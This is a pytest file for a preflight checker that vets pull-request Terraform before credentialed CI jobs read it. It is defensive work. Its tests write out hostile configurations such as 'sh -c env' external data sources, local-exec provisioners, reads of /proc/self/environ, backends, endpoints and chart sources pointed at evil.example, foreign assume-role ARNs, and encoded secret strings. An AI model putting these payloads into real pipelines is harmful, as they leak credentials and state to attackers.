"""A pull request's Terraform is checked before a job with credentials reads it; each exploit has its own refusal."""

from __future__ import annotations

import base64
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from groundwork import selection
from groundwork.errors import SynthesisError
from groundwork.preflight.check import Rules, check, leaks
from groundwork.preflight.secrets import canaries
from groundwork.refusals import Code
from groundwork.synthesis.manifest import Manifest
from stacks.platform import PLATFORM, READS
from tests.support.catalog import documents
from tests.support.data_stack import READER
from tests.support.karpenter import WITH_KARPENTER
from tests.support.synth import environment as environment_with

Terraform = dict[str, Any]


class PullRequest:
    """The synthesised output of a pull request, without other environments and zips so that copying it is quick."""

    def __init__(self, synthesised: Path, out: Path, rules: Rules) -> None:
        self.out = out
        self.rules = rules
        shutil.copytree(synthesised, out, ignore=_not_needed)
        self.edit_manifest(lambda stacks: [stacks.pop(name) for name in [*stacks] if not name.startswith("dev-")])

    def folder(self, stack: str = "dev-workloads") -> Path:
        return self.out / "stacks" / stack

    def write(self, text: str, stack: str = "dev-workloads") -> None:
        (self.folder(stack) / "cdk.tf.json").write_text(text, encoding="utf-8")

    def terraform(self, stack: str = "dev-workloads") -> Terraform:
        read: Terraform = json.loads((self.folder(stack) / "cdk.tf.json").read_bytes())
        return read

    def edit(self, change: Callable[[Terraform], object], stack: str = "dev-workloads") -> None:
        terraform = self.terraform(stack)
        change(terraform)
        self.write(json.dumps(terraform), stack)

    def edit_manifest(self, change: Callable[[Terraform], object]) -> None:
        path = self.out / "manifest.json"
        manifest = json.loads(path.read_text())
        change(manifest["stacks"])
        path.write_text(json.dumps(manifest))

    def codes(self) -> set[Code]:
        return {refusal.code for refusal in check(self.out, self.rules)}

    def reasons(self) -> list[str]:
        return [str(refusal) for refusal in check(self.out, self.rules)]


@pytest.fixture(scope="module")
def rules(checkout: Path) -> Rules:
    known = {known.name: known for known in PLATFORM.environments(checkout / "environments")}
    return Rules(known, checkout / "stacks/provider_locks")


@pytest.fixture
def pull_request(synthesised: Path, rules: Rules, tmp_path: Path) -> PullRequest:
    return PullRequest(synthesised, tmp_path / "cdktf.out", rules)


def test_the_synthesis_of_main_passes(synthesised: Path, pull_request: PullRequest) -> None:
    assert check(synthesised, pull_request.rules) == []
    assert pull_request.reasons() == []


def test_the_same_terraform_written_with_lists_of_blocks_passes_too(pull_request: PullRequest) -> None:
    def as_lists(terraform: Terraform) -> None:
        terraform["data"] = [{kind: [named]} for kind, named in terraform["data"].items()]
        terraform["terraform"] = [terraform["terraform"]]

    pull_request.edit(as_lists)
    assert pull_request.reasons() == []


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: t["terraform"]["required_providers"].update(null={"source": "hashicorp/null", "version": "3.2.4"}),
        lambda t: t["terraform"]["required_providers"]["aws"].update(source="evil/aws"),
        lambda t: t["terraform"]["required_providers"]["aws"].update(version="5.99.0"),
        lambda t: t["terraform"]["required_providers"]["aws"].pop("version"),
        lambda t: t["terraform"]["required_providers"]["aws"].update(configuration_aliases=["x"]),
        lambda t: t["resource"].update(null_resource={"x": {}}),
        lambda t: t["provider"].update(null=[{}]),
        lambda t: t["provider"]["aws"][0].update(allowed_account_ids=["999999999999"]),
        lambda t: t["provider"]["aws"][0].pop("allowed_account_ids"),
        lambda t: t["provider"]["aws"][0].update(shared_credentials_files=["/home/runner/.aws/credentials"]),
        lambda t: t["provider"]["aws"].append({"alias": "other", "region": "eu-west-2", "profile": "admin"}),
        lambda t: t["provider"]["helm"][0]["kubernetes"]["exec"].update(command="sh", args=["-c", "env"]),
        lambda t: t["provider"]["helm"][0]["kubernetes"]["exec"].update(env={"AWS_PROFILE": "x"}),
        lambda t: t["provider"]["helm"][0].update(registries=[{"url": "oci://evil", "username": "a", "password": "b"}]),
        lambda t: t["provider"]["helm"][0].update(helm_driver="sql"),
        lambda t: t["provider"].pop("helm"),
        lambda t: t["provider"]["aws"][0].update(alias="only"),
        lambda t: t["terraform"]["required_providers"].update(terraform={"source": "aws", "version": "5.100.0"}),
        lambda t: t["resource"].update(terraform_data={"x": {"provider": "external"}}),
        lambda t: _release(t).update(provider="external"),
        lambda t: _release(t).update(provider="aws"),
        lambda t: t["resource"].update(aws_of_the_future={"x": {}}),
    ],
)
def test_refuses_provider_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.PROVIDER_NOT_ALLOWED}


def test_refuses_module_not_allowed(pull_request: PullRequest) -> None:
    pull_request.edit(lambda t: t.update(module={"x": {"source": "git::https://evil.example/x.git"}}))
    assert pull_request.codes() == {Code.MODULE_NOT_ALLOWED}


@pytest.mark.parametrize("block", ["check", "import", "removed", "action", "list", "variable", "anything"])
def test_refuses_block_not_allowed(pull_request: PullRequest, block: str) -> None:
    pull_request.edit(lambda t: t.update({block: {"x": {}}}))
    assert pull_request.codes() == {Code.BLOCK_NOT_ALLOWED}


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: t.update(output={"x": {"value": 1, "precondition": [{"condition": True, "error_message": "x"}]}}),
        lambda t: t.update(output={"x": [{"value": 1, "ephemeral": True}]}),
        lambda t: t.update(moved=[{"from": "aws_vpc.a", "to": "aws_vpc.b", "anything": 1}]),
        lambda t: t["terraform"].update(required_version=">= 1"),
    ],
)
def test_refuses_block_not_allowed_inside_another(
    pull_request: PullRequest, smuggle: Callable[[Terraform], object]
) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.BLOCK_NOT_ALLOWED}


def test_refuses_block_not_allowed_in_a_duplicate_key(pull_request: PullRequest) -> None:
    text = (pull_request.folder() / "cdk.tf.json").read_text()
    # Terraform reads both `data` blocks, Python's JSON reader only the harmless second one.
    pull_request.write('{"data": {"external": {"x": {"program": ["env"]}}},' + text.lstrip()[1:])
    assert pull_request.codes() == {Code.BLOCK_NOT_ALLOWED}


@pytest.mark.parametrize(
    "data",
    [
        {"external": {"x": {"program": ["sh", "-c", "env"]}}},
        {"http": {"x": {"url": "https://evil.example"}}},
        {"local_file": {"x": {"filename": "/proc/self/environ"}}},
        {"aws_secretsmanager_secret_version": {"x": {"secret_id": "prod/db"}}},
        {"aws_ssm_parameter": {"x": {"name": "/prod/db"}}},
        {"aws_s3_object": {"x": {"bucket": "b", "key": "k"}}},
        {"aws_lambda_invocation": {"x": {"function_name": "f", "input": "{}"}}},
    ],
)
@pytest.mark.parametrize("as_list", [False, True])
def test_refuses_data_source_not_allowed(pull_request: PullRequest, data: Terraform, as_list: bool) -> None:
    def smuggle(terraform: Terraform) -> None:
        terraform["data"] = [terraform["data"], data] if as_list else {**terraform["data"], **data}

    pull_request.edit(smuggle)
    assert Code.DATA_SOURCE_NOT_ALLOWED in pull_request.codes()


def test_refuses_data_source_not_allowed_as_an_ephemeral_resource(pull_request: PullRequest) -> None:
    pull_request.edit(lambda t: t.update(ephemeral={"aws_secretsmanager_secret_version": {"x": {"secret_id": "y"}}}))
    assert pull_request.codes() == {Code.DATA_SOURCE_NOT_ALLOWED}


@pytest.mark.parametrize(
    "body",
    [
        {"provisioner": {"local-exec": {"command": "env"}}},
        {"provisioner": [{"remote-exec": {"inline": ["env"]}}]},
        {"connection": {"type": "ssh", "host": "x"}},
    ],
)
def test_refuses_provisioner_not_allowed(pull_request: PullRequest, body: Terraform) -> None:
    pull_request.edit(lambda t: t["resource"].update(terraform_data={"x": body}))
    assert pull_request.codes() == {Code.PROVISIONER_NOT_ALLOWED}


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: t["terraform"].update(backend={"http": {"address": "https://evil.example"}}),
        lambda t: t["terraform"].update(backend={"local": {}}),
        lambda t: t["terraform"].pop("backend"),
        lambda t: t["terraform"].update(cloud={"organization": "evil"}),
        lambda t: t["terraform"]["backend"]["s3"].update(bucket="evil"),
        lambda t: t["terraform"]["backend"]["s3"].update(key="prod/workloads.tfstate"),
        lambda t: t["terraform"]["backend"]["s3"].update(key="dev/network.tfstate"),
        lambda t: t["terraform"]["backend"]["s3"].update(encrypt=False),
        lambda t: t["terraform"]["backend"]["s3"].update(profile="admin"),
        lambda t: _remote(t).update(backend="http"),
        lambda t: _remote(t)["config"].update(key="prod/cluster.tfstate"),
        lambda t: _remote(t)["config"].update(bucket="acme-prod-state-333333333333"),
        lambda t: _remote(t).update(workspace="other"),
        lambda t: _remote(t).update(defaults={"x": "y"}),
    ],
)
def test_refuses_backend_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.BACKEND_NOT_ALLOWED}


def test_refuses_backend_not_allowed_in_an_environment_unknown_to_main(pull_request: PullRequest) -> None:
    pull_request.folder("dev-network").rename(pull_request.folder("evil-api"))
    pull_request.edit_manifest(lambda stacks: stacks.clear() or stacks.update({"evil-api": {"dependencies": []}}))
    for folder in (pull_request.out / "stacks").glob("dev-*"):
        shutil.rmtree(folder)
    (refusal,) = check(pull_request.out, pull_request.rules)
    assert refusal.code == Code.BACKEND_NOT_ALLOWED
    assert "merge its file first" in refusal.sentence


def test_refuses_backend_not_allowed_for_a_dependency_unknown_to_main(pull_request: PullRequest) -> None:
    pull_request.edit_manifest(lambda stacks: stacks["dev-workloads"]["dependencies"].append("dev-delivery"))
    pull_request.edit(lambda t: _remote(t)["config"].update(key="dev/delivery.tfstate"))
    reasons = pull_request.reasons()
    assert pull_request.codes() == {Code.BACKEND_NOT_ALLOWED}
    assert any("main does not let it read dev-delivery" in reason for reason in reasons)
    assert any("names a state that is not its own or an upstream stack's" in reason for reason in reasons)


def test_main_lets_each_stack_read_what_it_reads_and_nothing_else(
    synthesised: Path, pull_request: PullRequest, tmp_path: Path
) -> None:
    environments = pull_request.rules.environments
    reads: dict[str, set[str]] = {}
    documents(tmp_path / "more", environment_with(cluster=WITH_KARPENTER, workloads={"users": READER}))
    for stack in [*Manifest.read(synthesised).stacks, *Manifest.read(tmp_path / "more").stacks]:
        environment = selection.environment_of(stack.name, environments)
        short, *upstream = (name.removeprefix(f"{environment}-") for name in (stack.name, *stack.dependencies))
        reads.setdefault(short, set()).update(upstream)
    assert {short: {*READS.get(short, ())} for short in reads} == reads


@pytest.mark.parametrize("place", ["provider", "backend"])
def test_a_profile_is_for_the_laptop_alone(synthesised: Path, pull_request: PullRequest, place: str) -> None:
    local = json.loads((synthesised / "stacks/local-network/cdk.tf.json").read_bytes())
    keys = ("profile", "shared_config_files", "shared_credentials_files")

    def settings(terraform: Terraform) -> Terraform:
        read: Terraform = (
            terraform["provider"]["aws"][0] if place == "provider" else terraform["terraform"]["backend"]["s3"]
        )
        return read

    pull_request.edit(lambda t: settings(t).update({key: settings(local)[key] for key in keys}), "dev-network")
    code = Code.PROVIDER_NOT_ALLOWED if place == "provider" else Code.BACKEND_NOT_ALLOWED
    assert pull_request.codes() == {code}
    assert len(pull_request.reasons()) == len(keys)
    assert check(synthesised, pull_request.rules, stacks=["local-network"]) == []


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: t["provider"]["aws"][0].update(endpoints=[{"sts": "https://evil.example"}]),
        lambda t: t["provider"]["aws"][0].update(https_proxy="https://evil.example"),
        lambda t: t["provider"]["aws"][0].update(custom_ca_bundle="assets/ca.pem"),
        lambda t: t["terraform"]["backend"]["s3"].update(endpoints={"s3": "https://evil.example"}),
        lambda t: t["terraform"]["backend"]["s3"].update(http_proxy="https://evil.example"),
        lambda t: _remote(t)["config"].update(endpoints={"s3": "https://evil.example"}),
        lambda t: t["provider"]["helm"][0]["kubernetes"].update(host="https://evil.example"),
        lambda t: _cluster(t).update(host=_cluster(t)["host"].removesuffix("}") + "}.evil.example/endpoint}"),
        lambda t: _cluster(t).update(host=_cluster(t)["host"] + ".evil.example"),
        lambda t: _cluster(t).update(host=_cluster(t)["host"].replace(".outputs.", ".outputs.x}${local.")),
        lambda t: _cluster(t).update(host="${data.terraform_remote_state.x.outputs.my-endpoint}"),
        lambda t: _cluster(t).pop("host"),
        lambda t: _cluster(t).pop("cluster_ca_certificate"),
        lambda t: _cluster(t).update(cluster_ca_certificate="-----BEGIN CERTIFICATE-----"),
        lambda t: _cluster(t).update(cluster_ca_certificate="${base64decode(local.mine)}"),
        lambda t: t["provider"]["helm"][0].update(kubernetes=[]),
        lambda t: t["provider"]["helm"][0].update(kubernetes=[_cluster(t), _cluster(t)]),
    ],
)
def test_refuses_endpoint_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.ENDPOINT_NOT_ALLOWED}


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: t["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:aws:iam::999999999999:role/evil"}]),
        lambda t: t["provider"]["aws"][0].update(
            assume_role=[{"role_arn": "arn:aws:iam::444444444444:role/groundwork-deploy", "policy": "{}"}]
        ),
        lambda t: t["provider"]["aws"][0].update(
            assume_role_with_web_identity=[{"role_arn": "arn:aws:iam::111111111111:role/x"}]
        ),
        lambda t: t["terraform"]["backend"]["s3"].update(assume_role={"role_arn": "arn:aws:iam::999999999999:role/x"}),
        lambda t: t["terraform"]["backend"]["s3"].update(role_arn="arn:aws:iam::999999999999:role/x"),
    ],
)
def test_refuses_assume_role_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.ASSUME_ROLE_NOT_ALLOWED}


@pytest.mark.parametrize(
    ("expression", "code"),
    [
        ('${file("/proc/self/environ")}', Code.FILE_OUTSIDE_STACK),
        ('${"#"}${file/**/("/proc/self/environ")}', Code.EXPRESSION_NOT_ALLOWED),
    ],
)
@pytest.mark.parametrize("where", ["value", "key", "output", "local", "comment"])
def test_refuses_expression_not_allowed_wherever_it_is(
    pull_request: PullRequest, expression: str, code: Code, where: str
) -> None:
    places: dict[str, Callable[[Terraform], object]] = {
        "value": lambda t: t["resource"].update(terraform_data={"x": {"input": {"a": [expression]}}}),
        "key": lambda t: t["resource"].update(terraform_data={"x": {"input": {expression: "a"}}}),
        "output": lambda t: t.update(output={"x": {"value": expression}}),
        "local": lambda t: t.update(locals={"x": expression}),
        "comment": lambda t: t["resource"].update(terraform_data={"x": {"//": expression}}),
    }
    pull_request.edit(places[where])
    assert pull_request.codes() == {code}


def test_text_like_a_call_passes(pull_request: PullRequest) -> None:
    def change(terraform: Terraform) -> None:
        text = ["the file (see below)", "${upper(local.profile)}", "$${aws:username}"]
        terraform["resource"]["terraform_data"] = {"x": {"input": text}}

    pull_request.edit(change)
    assert pull_request.reasons() == []


@pytest.mark.parametrize(
    "smuggle",
    [
        lambda t: _release(t).update(repository="https://evil.example"),
        lambda t: _release(t).update(postrender={"binary_path": "/bin/sh"}),
        lambda t: _release(t).update(dependency_update=True),
        lambda t: _release(t).update(devel=True),
        lambda t: _release(t).update(verify=True, keyring="/home/runner/.gnupg/pubring.gpg"),
        lambda t: _release(t).update(repository_password="${terraform.workspace}"),
        lambda t: _release(t).update(anything_new=True),
        lambda t: _release(t).update(count=2),
        lambda t: _release(t).update(for_each="${toset(values(data.terraform_remote_state.x.outputs))}"),
        lambda t: _release(t).update(dynamic={"set": {"for_each": [], "content": {}}}),
        lambda t: _release(t).update(lifecycle={"precondition": [{"condition": True, "error_message": "x"}]}),
        lambda t: _release(t).update(lifecycle=[{"postcondition": [{"condition": False, "error_message": "x"}]}]),
        lambda t: t["data"].update(aws_region={"here": {"for_each": ["x"]}}),
    ],
)
def test_refuses_argument_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
    pull_request.edit(smuggle)
    assert pull_request.codes() == {Code.ARGUMENT_NOT_ALLOWED}


@pytest.mark.parametrize(
    "arguments",
    [
        {"new_keyword": "x"},
        {"count": 2},
        {"timeouts": {"dynamic": {"create": {"for_each": ["${local.x}"], "content": {}}}}},
        {"timeouts": [{"dynamic": [{"create": {"for_each": [], "content": {}}}]}]},
    ],
)
def test_refuses_argument_not_allowed_in_a_resource_of_aws(pull_request: PullRequest, arguments: Terraform) -> None:
    pull_request.edit(lambda t: next(iter(t["resource"]["aws_route_table"].values())).update(arguments), "dev-network")
    assert pull_request.codes() == {Code.ARGUMENT_NOT_ALLOWED}


@pytest.mark.parametrize("chart", ["podinfo", "./assets/none", "oci://evil.example/chart", "assets/../../chart"])
def test_refuses_file_outside_stack_as_a_chart(pull_request: PullRequest, chart: str) -> None:
    pull_request.edit(lambda t: _release(t).update(chart=chart))
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}


KARPENTER = "oci://public.ecr.aws/karpenter/karpenter"


@pytest.mark.parametrize(
    ("chart", "version", "refused"),
    [
        (KARPENTER, "1.14.3", set()),
        (KARPENTER, ">0.0.0", {Code.ARGUMENT_NOT_ALLOWED}),
        (KARPENTER, "1.14", {Code.ARGUMENT_NOT_ALLOWED}),
        (f"{KARPENTER}-else", "1.14.3", {Code.FILE_OUTSIDE_STACK}),
        (f"{KARPENTER}/../evil", "1.14.3", {Code.FILE_OUTSIDE_STACK}),
    ],
)
def test_a_chart_is_fetched_only_where_main_names_it_at_an_exact_version(
    pull_request: PullRequest, chart: str, version: str, refused: set[Code]
) -> None:
    """A plan downloads the chart from where its address leads."""
    pull_request.edit(lambda t: _release(t).update(chart=chart, version=version))
    assert pull_request.codes() == refused


@pytest.mark.parametrize(
    "value", ["/etc/passwd", "../../other/assets/x.zip", "assets/../../x", "cdk.tf.json", "${local.x}"]
)
def test_refuses_file_outside_stack_as_a_functions_zip(pull_request: PullRequest, value: str) -> None:
    def smuggle(terraform: Terraform) -> None:
        next(iter(terraform["resource"]["aws_lambda_function"].values()))["filename"] = value

    pull_request.edit(smuggle, "dev-api")
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}


def test_refuses_file_outside_stack_in_a_type_that_main_does_not_use(pull_request: PullRequest) -> None:
    revision = {"asset": [{"import_assets_from_signed_url": {"filename": "assets/x"}}]}
    page = {"bucket": "b", "key": "k", "source": "/proc/self/environ"}
    flow = {"instance_id": "i", "name": "n", "filename": "/proc/self/environ"}
    pull_request.edit(lambda t: t["resource"].update(aws_s3_object={"x": page}, aws_connect_contact_flow={"x": flow}))
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
    assert len(pull_request.reasons()) == 2
    pull_request.edit(lambda t: t["resource"].update(aws_dataexchange_revision_assets={"x": revision}))
    assert Code.PROVIDER_NOT_ALLOWED in pull_request.codes()


def test_refuses_file_outside_stack_as_a_link(pull_request: PullRequest) -> None:
    (pull_request.folder() / "assets" / "environ").symlink_to("/proc/self/environ")
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}


def test_refuses_file_outside_stack_as_a_stacks_folder(pull_request: PullRequest) -> None:
    elsewhere = pull_request.out / "elsewhere"
    pull_request.folder("dev-network").rename(elsewhere)
    pull_request.folder("dev-network").symlink_to(elsewhere)
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}


@pytest.mark.parametrize("folder", ["../elsewhere", "stacks/dev-network/../other", "stacks/dev-api", "elsewhere", ""])
def test_refuses_file_outside_stack_as_a_folder_of_another_name(pull_request: PullRequest, folder: str) -> None:
    pull_request.edit_manifest(lambda stacks: stacks["dev-network"].update(workingDirectory=folder))
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
    with pytest.raises(SynthesisError, match="workingDirectory"):
        Manifest.read(pull_request.out)


@pytest.mark.parametrize("name", ["dev-a/b", "dev-../../x", "..", "dev-..", "/dev-x", "dev x", "-dev", ""])
def test_refuses_file_outside_stack_as_a_stacks_name(pull_request: PullRequest, name: str) -> None:
    pull_request.edit_manifest(lambda stacks: stacks.update({name: {"name": name, "dependencies": []}}))
    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}


def test_refuses_file_not_allowed_as_a_folder_without_a_stack(pull_request: PullRequest) -> None:
    shutil.copytree(pull_request.folder(), pull_request.folder("dev-other"))
    assert pull_request.codes() == {Code.FILE_NOT_ALLOWED}
    assert check(pull_request.out, pull_request.rules, stacks=["dev-workloads"]) == []


@pytest.mark.parametrize(
    "name", ["extra.tf", "override.tf.json", "x_override.tf", "terraform.tfvars", "x.auto.tfvars.json", ".terraform"]
)
def test_refuses_file_not_allowed(pull_request: PullRequest, name: str) -> None:
    (pull_request.folder() / name).write_text("{}")
    assert pull_request.codes() == {Code.FILE_NOT_ALLOWED}


def test_refuses_lock_file_differs_before_init(pull_request: PullRequest) -> None:
    lock = pull_request.folder() / ".terraform.lock.hcl"
    lock.write_text(lock.read_text().replace("h1:", "h1:x"))
    assert pull_request.codes() == {Code.LOCK_FILE_DIFFERS}


def test_refuses_lock_file_differs_where_it_is_missing(pull_request: PullRequest) -> None:
    (pull_request.folder() / ".terraform.lock.hcl").unlink()
    assert pull_request.codes() == {Code.LOCK_FILE_DIFFERS}


def test_refuses_lock_file_differs_where_it_lacks_a_provider_of_the_stack(pull_request: PullRequest) -> None:
    aws_only = pull_request.folder("dev-network") / ".terraform.lock.hcl"
    (pull_request.folder() / ".terraform.lock.hcl").write_bytes(aws_only.read_bytes())
    assert pull_request.codes() == {Code.LOCK_FILE_DIFFERS}


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + "Q" * 16,
        "ghp_" + "a" * 36,
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "postgres://app:hunter22@db.internal/app",
        "xoxb-" + "1" * 24,
    ],
)
def test_refuses_baked_secret_by_its_form(pull_request: PullRequest, secret: str) -> None:
    pull_request.edit(lambda t: t.update(output={"x": {"value": secret}}))
    assert pull_request.codes() == {Code.BAKED_SECRET}
    assert secret not in "".join(pull_request.reasons())


def _in_a_function(terraform: Terraform) -> None:
    (function,) = terraform["resource"]["aws_lambda_function"].values()
    variables = function["environment"] if isinstance(function["environment"], dict) else function["environment"][0]
    variables["variables"]["DB_PASSWORD"] = "hunter2hunter2"


def _in_helm_values(terraform: Terraform) -> None:
    (release,) = terraform["resource"]["helm_release"].values()
    release["values"] = ["env:\n- name: SOME_API_KEY\n  value: hunter2hunter2\n"]


@pytest.mark.parametrize(
    ("stack", "write", "where"),
    [
        ("dev-api", _in_a_function, "environment"),
        ("dev-workloads", _in_helm_values, "values"),
        (
            "dev-api",
            lambda t: t.update(output={"admin_password": {"value": "hunter2hunter2"}}),
            "output admin_password",
        ),
    ],
)
def test_refuses_baked_secret_by_its_name(
    pull_request: PullRequest, stack: str, write: Callable[[Terraform], object], where: str
) -> None:
    """What a review would hide is refused before any job with credentials reads it."""
    pull_request.edit(write, stack)
    assert pull_request.codes() == {Code.BAKED_SECRET}
    assert where in "".join(pull_request.reasons())
    assert "hunter2" not in "".join(pull_request.reasons())


def test_refuses_baked_secret_inside_a_functions_zip(pull_request: PullRequest) -> None:
    with zipfile.ZipFile(pull_request.folder() / "assets" / "x.zip", "w") as archive:
        archive.writestr("settings.py", "KEY = 'AKIA" + "Q" * 16 + "'")
    assert pull_request.codes() == {Code.BAKED_SECRET}


@pytest.mark.parametrize(
    "form",
    [
        lambda value: value,
        lambda value: value[::-1],
        lambda value: value.encode().hex(),
        lambda value: base64.b64encode(value.encode()).decode(),
        lambda value: base64.b64encode(f"password={value};".encode()).decode(),
        lambda value: base64.urlsafe_b64encode(f"pw={value}".encode()).decode(),
    ],
)
def test_refuses_baked_secret_that_came_from_the_environment(
    pull_request: PullRequest, form: Callable[[str], str]
) -> None:
    planted = canaries()
    assert leaks(pull_request.out, planted) == []
    pull_request.edit(lambda t: t.update(output={"x": {"value": form(planted["DB_PASSWORD"])}}))
    (refusal,) = leaks(pull_request.out, planted)
    assert refusal.code == Code.BAKED_SECRET
    assert "DB_PASSWORD" in refusal.sentence
    assert planted["DB_PASSWORD"] not in str(refusal)


def test_every_variable_that_the_code_reads_gets_a_canary(tmp_path: Path) -> None:
    (tmp_path / "stack.py").write_text("import os\nx = os.environ['MY_OWN']\ny = os.getenv(\"OTHER\")\n")
    planted = canaries(tmp_path)
    assert {"MY_OWN", "OTHER", "AWS_SECRET_ACCESS_KEY"} <= planted.keys()
    assert len(set(planted.values())) == len(planted)


def _not_needed(folder: str, names: list[str]) -> list[str]:
    if Path(folder).name == "stacks":
        return [name for name in names if not name.startswith("dev-")]
    return [name for name in names if name.endswith(".zip")]


def _release(terraform: Terraform) -> Terraform:
    release: Terraform = next(iter(terraform["resource"]["helm_release"].values()))
    return release


def _cluster(terraform: Terraform) -> Terraform:
    cluster: Terraform = terraform["provider"]["helm"][0]["kubernetes"]
    return cluster


def _remote(terraform: Terraform) -> Terraform:
    remote: Terraform = next(iter(terraform["data"]["terraform_remote_state"].values()))
    return remote
